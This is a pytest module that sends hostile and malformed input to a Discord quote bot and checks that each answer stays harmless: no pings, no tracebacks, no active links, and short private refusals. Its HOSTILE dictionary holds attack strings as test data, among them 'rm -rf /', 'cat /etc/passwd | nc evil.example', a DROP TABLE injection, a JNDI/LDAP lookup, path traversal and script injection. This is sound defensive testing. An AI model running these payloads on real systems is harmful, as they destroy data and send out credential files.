"""Hostile and odd input, for every command and option, through the fake Discord.

Whatever a stranger types — nothing, 6,000 characters, control and invisible characters,
right-to-left text, emoji, Markdown, mentions, masked links, SQL or shell syntax, names
that match nothing, counts out of range — the bot answers with a clear, short message or a
normal result: never a ping, never a broken Discord rule, never a traceback, never the
apology that means a bug.

One bot serves the whole module (starting one per input would cost more than the inputs);
each case checks its own interaction, and the module checks the fake's rules at the end.
"""

from __future__ import annotations

import logging
import re
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from bot.app import App
from bot.discord.client import QuoteBot
from bot.discord.errors import APOLOGY
from tests.bot.discord.conftest import ACTIVE_MASKED_LINK, WAIT, all_embed_text, app_like
from tests.fake_discord import FakeDiscord, InteractionRecord, point_discord_at, run_client

pytestmark = pytest.mark.asyncio(loop_scope="module")

HOSTILE: dict[str, str] = {
    "empty": "",
    "whitespace-only": " \t\n \u3000 ",
    "6000-characters": ("sect " * 1200)[:6000],
    "6000-characters-one-word": "x" * 6000,
    "control-characters": "sect\x00\x07\x08\x1b[31m ion\x7f\x9b",
    "zero-width-inside-a-word": "s\u200be\u200bc\u200bt\u00ad",
    "only-invisible-characters": "\u200b\u200c\u200d\u2060\ufeff",
    "right-to-left-override": "\u202etces a si tahw\u202c",
    "hebrew": "מהי כת?",
    "arabic": "ما هي الطائفة؟",
    "emoji": "🔥📜 what is a sect 🤔",
    "right-to-left-marks": "\u200fwhat is a sect?\u200f\u200e",
    "only-emoji": "🔥🔥🔥",
    "combining-marks": "s̷̢͎e̶̛c̵̣t̸ a̴n̵d̶ p̷a̸r̵t̶y̷",
    "fullwidth": "ｗｈａｔ ｉｓ ａ ｓｅｃｔ",
    "markdown": "**bold** __under__ `code` ||spoiler|| ~~gone~~\n# heading\n> quoted",
    "markdown-around-words": "**what** is a __sect__? `sect` ||sect||",
    "everyone-and-here": "@everyone @here read this",
    "mention-syntax": "<@&123456789012345678> <@123456789012345678> <#123456789012345678>",
    "masked-link": "[free nitro](https://evil.example/claim) <https://evil.example>",
    "sql": "'; DROP TABLE passages; --",
    "sql-tautology": '" OR 1=1 -- sect',
    "shell": "$(rm -rf /) `reboot`; cat /etc/passwd | nc evil.example 1 && echo $HOME",
    "path-traversal": "../../../etc/passwd",
    "format-strings": "{0} %s %n {__class__.__init__} ${jndi:ldap://evil.example/a}",
    "html-script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "unknown-name": "Necronomicon by Abdul Alhazred",
}
CASES = list(HOSTILE.items())
IDS = list(HOSTILE)

# Inputs that still ask a real question under the noise: they must be answered with a
# quote, not merely harmlessly. What the seed corpus answers, checked by hand: "what is a
# sect" is best answered by the introduction of Draper's essay, on its use of the term.
ASKS_WHAT_A_SECT_IS = {
    "emoji",
    "right-to-left-marks",
    "markdown-around-words",
    "zero-width-inside-a-word",
    "fullwidth",
}
SECT_ESSAY = "Anatomy of the Micro-Sect — Hal Draper"  # the title line: the work and its author
SECT_SOURCE = "draper-anatomy-of-the-micro-sect.md"
# "What is a sect" is answered by one of the two seed essays on sects: Draper's, or MIM's
# "Sectarianism originally referred to the splintering and factionalism within a religion".
SECT_ANSWERS = {
    SECT_SOURCE: SECT_ESSAY,
    "mim-definition-of-sectarianism.txt": "Definition of sectarianism: What is sectarianism? "
    "What are you doing about it? — Maoist Internationalist Movement (MIM)",
}

# Counts Discord's client would never send (the schema says 1..max_results).
BAD_COUNTS = [0, -1, 11, 26, 10**6, -(2**31)]

# Python's way of saying something broke; none of it may reach a user.
TRACEBACK_TEXT = re.compile(
    r"Traceback|File \"|line \d+, in|\b[A-Z]\w+(Error|Exception)\b|<[a-z_.]+ object at 0x"
)
REFUSAL_MAX_CHARS = 300  # a refusal says what is wrong and what to do, in a sentence or two


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def live(seed_app: App) -> AsyncIterator[FakeDiscord]:
    """One fake Discord and one bot (seed corpus, no rate limits) for the whole module."""
    app = app_like(
        seed_app, cooldown_seconds=0, server_limit=0, click_limit=0, autocomplete_limit=0
    )
    with pytest.MonkeyPatch.context() as patch:
        async with FakeDiscord() as fake:
            point_discord_at(fake, patch)
            async with run_client(QuoteBot(app), fake):
                yield fake
    fake.assert_no_violations()


@pytest.fixture
def bugs(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    """Errors the bot logs with a traceback: each one is a bug, whatever the user saw."""
    caplog.set_level(logging.ERROR, logger="bot")
    return caplog


def visible_text(rec: InteractionRecord) -> str:
    """Everything the user sees in the answer: content, embeds, choices."""
    parts = [rec.content or ""]
    parts += [all_embed_text(e) for e in rec.embeds]
    parts += [f"{c['name']} {c['value']}" for c in rec.choices or []]
    return "\n".join(parts)


def assert_quoted_from_a_sect_essay(rec: InteractionRecord) -> None:
    """A public answer whose first quote is from one of the essays on sects and speaks of
    sects (not a refusal, not "no good match", not "Sorry" to everything)."""
    embed = rec.embed
    assert embed is not None and not rec.ephemeral, rec.summary()
    assert embed["footer"]["text"].startswith("Result 1 of")
    source = embed["footer"]["text"].rpartition("· ")[2]
    assert SECT_ANSWERS.get(source) == embed["title"], embed
    assert "sect" in embed["description"].casefold()
    assert "pager:next" in [b["custom_id"] for b in rec.buttons]


def assert_clear_and_harmless(rec: InteractionRecord, bugs: pytest.LogCaptureFixture) -> None:
    """The rules every answer to hostile input follows."""
    assert rec.done, rec.summary()
    assert rec.violations == [], rec.violations
    assert not rec.pinged and rec.pings == []
    text = visible_text(rec)
    assert not TRACEBACK_TEXT.search(text), text
    assert APOLOGY not in text  # the apology means an unexpected exception: a bug
    assert not ACTIVE_MASKED_LINK.search(text), text
    assert not re.search(r"(?<!\\)<[@#]", text), text  # mentions escaped
    assert "@everyone" not in text and "@here" not in text
    assert "https://evil" not in text  # not even a bare link
    assert [r for r in bugs.records if r.exc_info] == []
    embed = rec.embed
    if embed is not None and embed["title"] == "Sorry":
        assert rec.ephemeral  # a refusal is for the asker's eyes only
        assert len(embed["description"]) <= REFUSAL_MAX_CHARS, embed["description"]


async def answered(rec: InteractionRecord) -> InteractionRecord:
    await rec.wait_done(WAIT)
    return rec


async def harmless_slash(
    live: FakeDiscord,
    bugs: pytest.LogCaptureFixture,
    command: str,
    options: dict[str, Any] | list[dict[str, Any]],
) -> InteractionRecord:
    """A slash command's answer, once it is checked to be clear and harmless."""
    rec = await answered(await live.send_slash(command, options))
    assert_clear_and_harmless(rec, bugs)
    return rec


# -- every text option ---------------------------------------------------------------------


@pytest.mark.parametrize(("kind", "text"), CASES, ids=IDS)
async def test_quote_query(
    live: FakeDiscord, bugs: pytest.LogCaptureFixture, kind: str, text: str
) -> None:
    rec = await harmless_slash(live, bugs, "quote", {"query": text})
    if kind in ASKS_WHAT_A_SECT_IS:
        assert_quoted_from_a_sect_essay(rec)


@pytest.mark.parametrize(("kind", "text"), CASES, ids=IDS)
@pytest.mark.parametrize("option", ["author", "source"])
async def test_quote_filters(
    live: FakeDiscord, bugs: pytest.LogCaptureFixture, option: str, kind: str, text: str
) -> None:
    await harmless_slash(live, bugs, "quote", {"query": "what is a sect?", option: text})


@pytest.mark.parametrize(("kind", "text"), CASES, ids=IDS)
async def test_define_term(
    live: FakeDiscord, bugs: pytest.LogCaptureFixture, kind: str, text: str
) -> None:
    rec = await harmless_slash(live, bugs, "define", {"term": text})
    if kind == "zero-width-inside-a-word":  # "sect", with invisible marks between letters
        assert rec.embed is not None and rec.embed["title"] == SECT_ESSAY, rec.embed
        kind_field = {f["name"]: f["value"] for f in rec.embed["fields"]}["Kind"]
        assert kind_field == "definition"


@pytest.mark.parametrize(("kind", "text"), CASES, ids=IDS)
async def test_source_name(
    live: FakeDiscord, bugs: pytest.LogCaptureFixture, kind: str, text: str
) -> None:
    assert (await harmless_slash(live, bugs, "source", {"name": text})).ephemeral


@pytest.mark.parametrize(("kind", "text"), CASES, ids=IDS)
async def test_find_sources_on_a_message(
    live: FakeDiscord, bugs: pytest.LogCaptureFixture, kind: str, text: str
) -> None:
    rec = await answered(await live.send_message_command("Find sources", text))
    assert_clear_and_harmless(rec, bugs)
    if kind in ASKS_WHAT_A_SECT_IS:
        assert_quoted_from_a_sect_essay(rec)


AUTOCOMPLETED = [
    ("quote", "source", {"query": "sect"}, "alice"),
    ("source", "name", {}, "alice"),
    ("define", "term", {}, "alice"),
    ("corpus remove", "work", {}, "mod"),  # an admin: others get no choices at all
]


@pytest.mark.parametrize(("kind", "text"), CASES, ids=IDS)
@pytest.mark.parametrize(
    ("command", "option", "others", "user"),
    AUTOCOMPLETED,
    ids=[f"{c}.{o}".replace(" ", "-") for c, o, _, _ in AUTOCOMPLETED],
)
async def test_autocomplete(
    live: FakeDiscord,
    bugs: pytest.LogCaptureFixture,
    command: str,
    option: str,
    others: dict[str, Any],
    user: str,
    kind: str,
    text: str,
) -> None:
    rec = await answered(
        await live.send_autocomplete(command, {**others, option: text}, focused=option, user=user)
    )
    assert rec.response_type == "autocomplete"  # a list, maybe empty, never a silence
    assert_clear_and_harmless(rec, bugs)


# -- counts ----------------------------------------------------------------------------------


@pytest.mark.parametrize("count", BAD_COUNTS)
@pytest.mark.parametrize("command", ["quote", "define"])
async def test_discords_client_never_sends_a_count_out_of_range(
    live: FakeDiscord, command: str, count: int
) -> None:
    """First line of defence: the synced schema bounds `count`, so the client refuses."""
    text = "query" if command == "quote" else "term"
    with pytest.raises(ValueError, match=r"min_value|max_value"):
        await live.send_slash(command, {text: "sect", "count": count})


@pytest.mark.parametrize("count", BAD_COUNTS)
@pytest.mark.parametrize("command", ["quote", "define"])
async def test_a_crafted_count_out_of_range_is_refused_privately_before_searching(
    live: FakeDiscord, bugs: pytest.LogCaptureFixture, command: str, count: int
) -> None:
    """Second line: an interaction crafted past the client is checked by the bot itself."""
    text = "query" if command == "quote" else "term"
    raw = [{"type": 3, "name": text, "value": "sect"}, {"type": 4, "name": "count", "value": count}]
    rec = await harmless_slash(live, bugs, command, raw)
    assert rec.embed is not None
    if count == 0:  # absent and zero mean the same: the default number of results
        assert rec.embed["title"] != "Sorry"
    else:
        assert rec.response_type == "message" and rec.ephemeral  # refused before deferring
        assert rec.embed["description"] == "Ask for between 1 and 10 results."


# -- what the answers say --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("options", "says"),
    [
        ({"query": ""}, "Type a word, a phrase or a question"),
        ({"query": "\u200b\u200c\u200d"}, "Type a word, a phrase or a question"),
        ({"query": "x" * 6000}, "6,000 characters long; the limit is 1,000"),
        ({"query": "🔥🔥🔥"}, "has no words to search for"),
        ({"query": "sect", "author": "a" * 6000}, "author option is 6,000 characters long"),
        ({"query": "sect", "source": "Necronomicon"}, "with a title matching “Necronomicon”"),
    ],
    ids=["empty", "invisible", "too-long", "emoji-only", "author-too-long", "unknown-source"],
)
async def test_refusals_say_what_is_wrong(
    live: FakeDiscord, options: dict[str, str], says: str
) -> None:
    rec = await answered(await live.send_slash("quote", options))
    assert rec.embed is not None and rec.embed["title"] == "Sorry"
    assert says in rec.embed["description"]


async def test_invisible_characters_do_not_change_what_is_found(live: FakeDiscord) -> None:
    plain = await answered(await live.send_slash("quote", {"query": "what is a sect"}))
    hidden = await answered(
        await live.send_slash("quote", {"query": "wh\u200bat is\u00ad a s\u200de\u2060ct"})
    )
    assert plain.embed is not None and hidden.embed is not None
    assert hidden.embed["title"] == plain.embed["title"]
    assert hidden.embed["description"] == plain.embed["description"]


async def test_a_define_term_too_long_for_a_term_is_refused_privately(live: FakeDiscord) -> None:
    rec = await answered(await live.send_slash("define", {"term": "sect " * 60}))
    assert rec.response_type == "message" and rec.ephemeral  # not a public "thinking…"
    assert rec.embed is not None and "the limit is 200" in rec.embed["description"]


async def test_the_number_of_inputs_tried() -> None:
    """For the record: how many hostile inputs this module sends (see the closing note)."""
    text_options = 6  # quote query, author, source; define term; source name; Find sources
    autocompleted = len(AUTOCOMPLETED)
    counts = 2 * 2 * len(BAD_COUNTS)  # two commands, refused by the client and by the bot
    assert len(HOSTILE) * (text_options + autocompleted) + counts == 294
